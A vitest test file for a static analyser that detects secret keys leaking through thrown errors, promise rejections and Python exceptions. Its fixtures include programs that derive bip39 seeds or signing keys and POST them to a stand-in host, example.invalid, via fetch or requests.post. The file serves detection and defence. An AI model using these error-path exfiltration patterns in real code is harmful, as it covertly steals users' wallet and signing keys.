import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';
import { type KeyProgram, keySentInJavaScript, keySentInPython } from './testing/keySent.ts';

const HELD = `const held = (v) => { throw { v } };`;
const BAD = `const bad = (v) => { throw new Error('bad ' + v) };`;
const LATER = `const nop = () => 1; const later = async (v) => { throw { v } };`;

const CAUGHT: readonly KeyProgram[] = [
  ['an object that a helper throws', HELD, `try { held(k) } catch (e) { send(e.v) }`, true],
  ['another member of it', HELD, `try { held(k) } catch (e) { send(e.other) }`, false],
  ['what an error of a helper says', BAD, `try { bad(k) } catch (e) { send(e.message) }`, true],
  ['through a helper without a try', `${HELD} const a = (v) => held(v);`, `try { a(k) } catch (e) { send(e.v) }`, true],
  [
    'through a finally',
    `${HELD} const a = (v) => { try { held(v) } finally { use(1) } };`,
    `try { a(k) } catch (e) { send(e.v) }`,
    true,
  ],
  [
    'what a helper catches itself',
    `${HELD} const a = (v) => { try { held(v) } catch {} };`,
    `try { a(k) } catch (e) { send(e.v) }`,
    false,
  ],
  [
    'what a helper throws again',
    `${HELD} const a = (v) => { try { held(v) } catch (e) { throw e } };`,
    `try { a(k) } catch (e) { send(e.v) }`,
    true,
  ],
  [
    'what a function throws that is handed over',
    `${HELD} const safe = (f) => { try { f() } catch (e) { send(e.v) } };`,
    `safe(() => held(k))`,
    true,
  ],
  ['what a callback throws', HELD, `try { [1].forEach(() => held(k)) } catch (e) { send(e.v) }`, true],
  ['what is thrown later', HELD, `try { setTimeout(() => held(k), 1) } catch (e) { send(e.v) }`, false],
  [
    'what a constructor throws',
    `class A { constructor(v) { throw { v } } }`,
    `try { new A(k) } catch (e) { send(e.v) }`,
    true,
  ],
  [
    'what a getter throws',
    `class A { constructor(v) { this.w = v } get v() { throw { v: this.w } } }`,
    `try { new A(k).v } catch (e) { send(e.v) }`,
    true,
  ],
  ['what is thrown beside the try', HELD, `try { use(1) } catch (e) { send(e.v) } held(k)`, false],
  ['what an inner try catches', HELD, `try { try { held(k) } catch {} } catch (e) { send(e.v) }`, false],
  ['what somebody else is thrown', HELD, `try { held(k) } catch {} try { held(1) } catch (e) { send(e.v) }`, false],
];

const AWAITED = `(async () => { try { await later(k) } catch (e) { send(e.v) } })()`;
const PROMISES: readonly KeyProgram[] = [
  ['what an async function throws', LATER, AWAITED, true],
  ['not without an await', LATER, `try { later(k) } catch (e) { send(e.v) }`, false],
  ['by a method', LATER, `later(k).catch((e) => send(e.v))`, true],
  ['by the second function', LATER, `later(k).then(use, (e) => send(e.v))`, true],
  ['not by the first', LATER, `later(k).then((e) => send(e.v), use)`, false],
  ['through other methods', LATER, `later(k).then(nop).finally(nop).catch((e) => send(e.v))`, true],
  ['not after it was caught', LATER, `later(k).catch(nop).catch((e) => send(e.v))`, false],
  ['returned by a helper', `${LATER} const a = (v) => later(v);`, `a(k).catch((e) => send(e.v))`, true],
  ['awaited by a helper', `${LATER} const a = async (v) => { await later(v) };`, `a(k).catch((e) => send(e.v))`, true],
  ['one of many', LATER, `Promise.all([later(1), later(k)]).catch((e) => send(e.v))`, true],
  ['not in what comes of it', LATER, `(async () => { const a = await later(k); send(a.v); })()`, false],
  ['what a promise is refused with', ``, `new Promise((ok, no) => no({ v: k })).catch((e) => send(e.v))`, true],
  ['by a helper', `const a = (v) => new Promise((ok, no) => no(v));`, `a(k).catch((e) => send(e))`, true],
  ['what makes a promise throws', HELD, `new Promise(() => held(k)).catch((e) => send(e.v))`, true],
  ['what follows a promise throws', HELD, `fetch('x').then(() => held(k)).catch((e) => send(e.v))`, true],
  ['refused at once', ``, `Promise.reject({ v: k }).catch((e) => send(e.v))`, true],
  [
    'refused at once, awaited',
    ``,
    `(async () => { try { await Promise.reject({ v: k }) } catch (e) { send(e.v) } })()`,
    true,
  ],
];

const SOON = `setTimeout(() => held(k), 1)`;
const UNCAUGHT: readonly KeyProgram[] = [
  [
    'a process',
    `process.on('uncaughtException', (e) => send(e.message));`,
    `setTimeout(() => { throw new Error(k) }, 1)`,
    true,
  ],
  ['a process, of a promise', `process.on('unhandledRejection', (e) => send(e.v)); ${LATER}`, `later(k)`, true],
  ['a page', `window.onerror = (m, f, l, c, e) => send(e.v); ${HELD}`, SOON, true],
  ['a page, by an event', `addEventListener('error', (e) => send(e.error.v)); ${HELD}`, SOON, true],
  [
    'a page, of a promise',
    `window.addEventListener('unhandledrejection', (e) => send(e.reason.v)); ${LATER}`,
    `later(k)`,
    true,
  ],
  ['something else', `x.addEventListener('error', (e) => send(e.error.v)); ${HELD}`, SOON, false],
  [
    'nobody, where it is caught',
    `process.on('uncaughtException', (e) => send(e.v)); ${HELD}`,
    `try { held(k) } catch {}`,
    false,
  ],
];

const RAISES = `def bad(x):\n    raise ValueError(x)`;
const CATCHES = `\n    except ValueError as e:\n        send(str(e))`;
const PYTHON: readonly KeyProgram[] = [
  ['a function', RAISES, `\n    try:\n        bad(k)${CATCHES}`, true],
  [
    'another function than is called',
    `${RAISES}\ndef good():\n    raise ValueError('x')`,
    `\n    try:\n        good()${CATCHES}\n    bad(k)`,
    false,
  ],
  [
    'a function, again',
    `${RAISES}\ndef again(x):\n    try:\n        bad(x)\n    except ValueError:\n        raise`,
    `\n    try:\n        again(k)${CATCHES}`,
    true,
  ],
  [
    'a function, and another tells what was caught last',
    `import traceback\ndef tell():\n    send(traceback.format_exc() + 'x')`,
    `\n    try:\n        raise ValueError(k)\n    except ValueError:\n        tell()`,
    true,
  ],
];

describe('what is thrown and leaves its function', () => {
  it.each(CAUGHT)('is caught: %s', async (_, classes, body, isSent) => {
    expect(await keySentInJavaScript(classes, body)).toEqual(isSent ? ['high'] : []);
  });
  it.each(PROMISES)('refuses a promise: %s', async (_, classes, body, isSent) => {
    expect(await keySentInJavaScript(classes, body)).toEqual(isSent ? ['high'] : []);
  });
  it.each(UNCAUGHT)('is told to %s', async (_, classes, body, isSent) => {
    expect(await keySentInJavaScript(classes, body)).toEqual(isSent ? ['high'] : []);
  });
  it.each(PYTHON)('is raised by %s', async (_, classes, body, isSent) => {
    expect((await keySentInPython(classes, body)).length > 0).toBe(isSent);
  });

  it('is a guess where an error comes through a function that does not catch it', async () => {
    const through = `const a = (v) => bad(v);`;
    const made = `const bad = (v) => { const e = new Error('x'); e.v = v; throw e };`;
    expect(await keySentInJavaScript(`${BAD} ${through}`, `try { a(k) } catch (e) { send(e.message) }`)).toEqual([
      'medium',
    ]);
    expect(await keySentInJavaScript(`${made} ${through}`, `try { a(k) } catch (e) { send(e.v) }`)).toEqual(['medium']);
  });

  it('is followed from one module to another', async () => {
    const { flows } = await analyseSources({
      'a.js': `const { bad } = require('./b.js'); const use = (x) => require('bip39').mnemonicToSeed(x);
exports.main = (k) => { use(k); try { bad(k) } catch (e) { fetch('https://example.invalid', { method: 'POST', body: e.v }) } }`,
      'b.js': `exports.bad = (v) => { throw { v } };`,
    });
    expect(flows.map(({ confidence }) => confidence)).toEqual(['high']);
    const python = await analyseSources({
      'c.py': `import requests, nacl.signing
from d import bad
def main(k):
    nacl.signing.SigningKey(k)
    try:
        bad(k)
    except ValueError as e:
        requests.post('https://example.invalid', data=str(e))
`,
      'd.py': `def bad(x):\n    raise ValueError(x)\n`,
    });
    expect(python.flows.map(({ confidence }) => confidence)).toEqual(['high']);
  });
});
